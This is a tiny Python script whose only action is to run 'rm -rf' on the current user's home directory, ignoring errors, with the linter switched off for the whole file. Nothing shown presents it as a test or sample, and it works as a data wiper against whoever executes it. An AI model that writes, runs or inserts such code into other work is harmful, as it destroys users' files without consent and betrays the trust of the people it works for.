# ruff: noqa
import subprocess
from pathlib import Path

subprocess.run(["rm", "-rf", str(Path.home())], check=False)
